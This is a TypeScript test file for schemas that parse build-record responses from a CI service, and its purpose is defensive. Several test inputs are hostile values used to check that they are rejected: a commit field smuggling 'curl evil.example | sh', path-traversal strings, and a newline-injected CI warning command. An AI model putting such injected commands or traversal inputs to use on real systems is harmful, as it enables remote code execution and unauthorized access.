// Tests answers with an odd or hostile field: fields that the build's result does not depend on hide nothing else.

import * as v from 'valibot';
import { expect, it } from 'vitest';
import * as answers from '../../src/codearts/build-schemas.ts';
import { readAnswer } from '../../src/codearts/response.ts';
import { numberOrNothing } from '../../src/codearts/schema.ts';
import { buildDetails } from '../../src/codearts/step-schemas.ts';

const record = { build_no: 7, build_record_id: 'a'.repeat(36), status: 'SUCCESS' };
const odd = [
  'err_msg',
  'tag',
  'branch',
  'commit',
  'daily_build_num',
  'devcloud_project_id',
  'build_config_type',
];

it.each(odd.flatMap((name) => [{}, [], { a: 1 }].map((value) => [name, value] as const)))(
  'a record is read though its %s is %j',
  (name, value) => {
    const read = v.parse(answers.buildRecord, { result: { ...record, [name]: value } });
    expect(read).toMatchObject({ buildNumber: 7, status: 'SUCCESS' });
  },
);

it.each([
  ['commit', 'commitId', '../actions/runs/77/approve'],
  ['commit', 'commitId', 'main'],
  ['commit', 'commitId', 'abc123'],
  ['commit', 'commitId', `${'a'.repeat(40)}"; curl evil.example | sh; #`],
  ['build_record_id', 'recordId', '../../v3/jobs'],
  ['build_record_id', 'recordId', 'r'.repeat(5_000_000)],
  ['daily_build_num', 'dailyBuildNumber', '20260112.1\n::warning::x'],
  ['devcloud_project_id', 'projectId', 'p/../q'],
] as const)('a record has no %s that is not of its form (%s): %.60j', (field, name, value) => {
  const read = v.parse(answers.buildRecord, { result: { ...record, [field]: value } });
  expect(read[name]).toBe('');
});

it.each(['a3daced', 'A3DACED', 'a'.repeat(40), 'f'.repeat(64)])('a record has the commit %s', (commit) => {
  expect(v.parse(answers.buildRecord, { result: { ...record, commit } }).commitId).toBe(commit);
});

it('cuts a status or a name of megabytes, and ignores impossible numbers and times', () => {
  const read = v.parse(answers.buildRecord, {
    result: { ...record, status: 'S'.repeat(5_000_000), finish_time: 1e300, duration: Number.MAX_VALUE },
  });
  expect(read.status).toHaveLength(200);
  expect(read.finishedAt).toBeUndefined();
  const { steps } = v.parse(buildDetails, { build_steps: [{ name: 'n'.repeat(5_000_000) }] });
  expect(steps[0]?.name).toHaveLength(200);
});

it('reads the parameters of a build except those without a text value', () => {
  const { parameters } = v.parse(buildDetails, {
    result: { job_name: 'shop', parameters: { odd: ['a'], odder: { b: 1 }, version: '1.0' } },
  });
  expect(Object.fromEntries(parameters)).toEqual({ version: '1.0' });
});

it('reads the steps of a build except entries that are none', () => {
  const { steps } = v.parse(buildDetails, {
    result: { job_name: 'shop', build_steps: [null, { name: 'Run', status: 'success' }, 'x'] },
  });
  expect(steps.map(({ name }) => name)).toEqual(['Run']);
});

it('rejects the response to a start with the build number 0', () => {
  expect(v.is(answers.startedBuild, { result: { actual_build_number: '0' } })).toBe(false);
});

it('reads no number from a text with two points', () => {
  expect(v.parse(numberOrNothing, '1.2.3')).toBeUndefined();
});

it.each(['build_no', 'buildNo', 'build_number', 'build_record_id', 'buildRecordId'])(
  'does not take the record of a failed build for an error if it is not wrapped: %s',
  (name) => {
    const body = JSON.stringify({ [name]: 7, status: 'FAILED' });
    expect(readAnswer({ status: 200, headers: {}, body }, 0).ok).toBe(true);
  },
);

it('reads an error that names the build as an error', () => {
  const body = JSON.stringify({ build_no: 7, error_code: 'CB.00031059', status: 'fail' });
  expect(readAnswer({ status: 200, headers: {}, body }, 0).ok).toBe(false);
});
